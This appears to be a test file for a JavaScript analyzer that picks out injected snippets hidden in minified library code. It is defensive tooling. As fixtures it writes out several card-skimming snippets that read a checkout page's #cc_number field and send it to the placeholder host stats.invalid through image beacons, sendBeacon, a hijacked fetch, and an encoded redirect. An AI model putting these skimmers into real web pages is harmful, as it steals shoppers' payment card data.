import assert from 'node:assert/strict';
import { minify_sync } from 'terser';
import { transformSync } from 'esbuild';
import { islandsOf } from '../../../analyzer/islands/index.ts';
import { parseScript } from '../../../analyzer/parse/index.ts';
import { collectFacts } from '../../../analyzer/static/facts.ts';

const of = (text: string) => {
  const facts = collectFacts(text, parseScript(text));
  return islandsOf(facts, new Uint8Array(facts.tree?.count ?? 0));
};
const texts = (text: string) => of(text).map((island) => island.text);

const guest = `document.querySelector('#checkout').addEventListener('submit', function () {
  new Image().src = 'https://stats.invalid/c?d=' + btoa(document.querySelector('#cc_number').value);
})`;

/** Expressions of a library, which share its names. */
const calls = (count: number): string =>
  Array.from(
    { length: count },
    (_, n) => `lib.add(${n}, function (one, other) { return lib.sum(one, other) + ${n} })`,
  ).join(', ');
const host = (inside: string): string => `(function () { var lib = {}; lib.sum = Math.max; ${inside} })();`;

describe('islands among what minifiers join', () => {
  it('cuts an expression out of a chain', () => {
    assert.deepEqual(texts(host(`${calls(40)}, ${guest}, ${calls(40)};`)), [guest]);
    assert.deepEqual(texts(`var lib = {}; ${calls(40)}, ${guest}, ${calls(40)};`), [guest]);
  });

  it('cuts it out of what a statement begins with', () => {
    for (const text of [
      `${calls(80)}; return ${guest}, lib`,
      `${calls(80)}; throw ${guest}, lib`,
      `${calls(80)}; if (${guest}, lib.is) { lib.go() }`,
      `${calls(80)}; switch (${guest}, lib.is) { case 1: lib.go() }`,
      `${calls(80)}; for (${guest}, lib.n = 0; lib.n < 3; lib.n++) lib.go();`,
      `${calls(80)}; lib.then = () => (${guest}, lib.go(${calls(10)}))`,
      `${calls(80)}; if (lib.is) { ${guest}; lib.go(${calls(10)}) }`,
    ])
      assert.deepEqual(
        texts(host(text)).map((island) => island.replace(/;$/, '')),
        [guest],
        text.slice(-80),
      );
  });

  it('makes statements of what a guest of several expressions and declarations was torn into', () => {
    const text = host(
      `var one = lib.one, where = 'https://stats.invalid/c?d=', two = lib.two(one); ${calls(60)}, function () {
        navigator.sendBeacon(where, document.querySelector('#cc_number').value)
      }(), lib.go(two);`,
    );
    const [island] = of(text);
    assert.equal(
      island!.text,
      `var where = 'https://stats.invalid/c?d=';\n(function () {
        navigator.sendBeacon(where, document.querySelector('#cc_number').value)
      }())`,
    );
    assert.equal(parseScript(island!.text).mode, 'script');
    const at = island!.text.indexOf('navigator');
    assert.equal(island!.toScript(at), text.indexOf('navigator'));
    assert.equal(island!.toScript(0), text.indexOf('where'));
    assert.equal(island!.toScript(island!.text.length), text.indexOf('}(), lib') + '}()'.length);
  });

  it('cuts the rest of a condition or a loop from what was joined into it', () => {
    for (const rest of [
      `if(document.querySelector('#cc_number')) { ${guest} }`,
      `for(var at = 0; at < 3; at++) { ${guest}; if (window.stop) break; }`,
    ]) {
      const joined = rest.replace('(', `(${calls(3)}, `).replace('var at', 'at');
      assert.deepEqual(
        texts(host(`${calls(80)}; ${joined}`)).map((text) => text.replace(/\s+/g, ' ')),
        [rest.replace('for(var at = 0', 'at = 0;\nfor(').replace(/\s+/g, ' ')],
      );
    }
  });

  it('leaves alone what jumps to the code around it', () => {
    const last = (jump: string): string => `if (document.cvv) { ${guest}; ${jump} }`;
    const text = (jump: string): string =>
      host(`${calls(80)}; for (;;) { lib.go(${calls(3)}); ${last(jump)} }`);
    assert.deepEqual(texts(text('close()')), [last('close()')]);
    assert.deepEqual(texts(text('continue')), []);
    assert.deepEqual(texts(text('return')), []);
  });

  it('finds a guest that was minified together with its host', () => {
    const statements = Array.from(
      { length: 60 },
      (_, n) => `lib.f${n} = function (a, b) { return lib.sum(a, b) + ${n} };`,
    );
    const whole = `var lib = {};\n${statements.join('\n')}\nvar where = 'https://stats.invalid/c?d=';
if (location.href.indexOf('checkout') > 0) {
  setInterval(function () { new Image().src = where + btoa(document.querySelector('#cc_number').value) }, 900);
}
${statements.join('\n').replaceAll('.f', '.g')}`;
    for (const wrapped of [whole, `(function () {\n${whole}\nreturn lib })();`])
      for (const code of [minify_sync(wrapped).code!, transformSync(wrapped, { minify: true }).code]) {
        const [island] = of(code);
        assert.match(island!.text, /stats\.invalid[^]*cc_number/);
        assert.ok(island!.text.length < 260, island!.text);
      }
  });
});

describe('choice of islands', () => {
  const library = (count: number): string =>
    `var n = 1;\n${Array.from({ length: count }, (_, n) => `function add${n}(a, b) { return n ? add${(n + 1) % count}(a, b) : a + b }`).join('\n')}`;

  it('prefers what a reason speaks of', () => {
    const quiet = `localStorage.seen = '<a href="https://shop.example/checkout">Pay</a>'; document.write(localStorage.seen);`;
    const guilty = `if (document.referrer.length > 1) { window.location.href = atob('aHR0cHM6Ly9zdGF0cy5pbnZhbGlkL3g=') + location.search.slice(1) }`;
    const [island] = of(`${quiet}\n${library(80)}\n${guilty}`);
    assert.equal(island!.text, guilty);
  });

  it('takes a neighbour without signs along', () => {
    const first = `document.cookieNote = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15];`;
    const [island] = of(
      `${library(60)}\n${first}\n${guest};\n${library(60).replaceAll('add', 'sum').replace('var n = 1;', '')}`,
    );
    assert.equal(island!.text, `${first}\n${guest};`);
  });

  it('does not join what overwrites a function of the page with those that use it', () => {
    const hook = `var before = fetch; fetch = function (url) { new Image().src = 'https://stats.invalid/?' + btoa(document.querySelector('#cc_number').value); return before(url) };`;
    const [island] = of(`${library(80)}\nadd0.load = function () { return fetch('/prices.json') };\n${hook}`);
    assert.equal(island!.text, hook);
  });

  it('looks at what uses its host when a reason speaks of it', () => {
    const parts = (use: string): string =>
      `(function (a, b) { ${Array.from({ length: 100 }, (_, n) => `a.add${n} = function (one) { return one + b + ${n} };`).join('\n')} ${use}
return a })({}, 1);`;
    const guilty = `setTimeout(function () { window.location.href = atob('aHR0cHM6Ly9zdGF0cy5pbnZhbGlkL3g=') + location.search.slice(a) }, 9);`;
    assert.deepEqual(texts(parts(guilty)), [guilty]);
    assert.deepEqual(texts(parts(guilty.replace(/atob\('(.*?)'\)/, '"/$1"'))), []);
  });

  it('does not take short undeclared names for a bond', () => {
    const loops = Array.from(
      { length: 60 },
      (_, n) => `for (i = 0; i < 9; i++) { add${n} = i * ${n} + add${n || 59}(i) }`,
    );
    const counting = `for (i = 0; i < 9; i++) { ${guest} }`;
    const [island] = of(`${loops.join('\n')}\n${counting}\n${library(60)}`);
    assert.ok(island!.text.includes(counting));
    assert.ok(island!.text.length < 2 * counting.length);
  });

  it('keeps a guest apart that declares a name of its host anew', () => {
    const own = `if (document.cvv) {
  for (var n = 0; n < 3; n++) add0(n);
  function add0(turn) { setTimeout(function () { ${guest} }, turn) }
}`;
    const [island] = of(`${library(80)}\n${own}`);
    assert.equal(island!.text, own);
  });
});
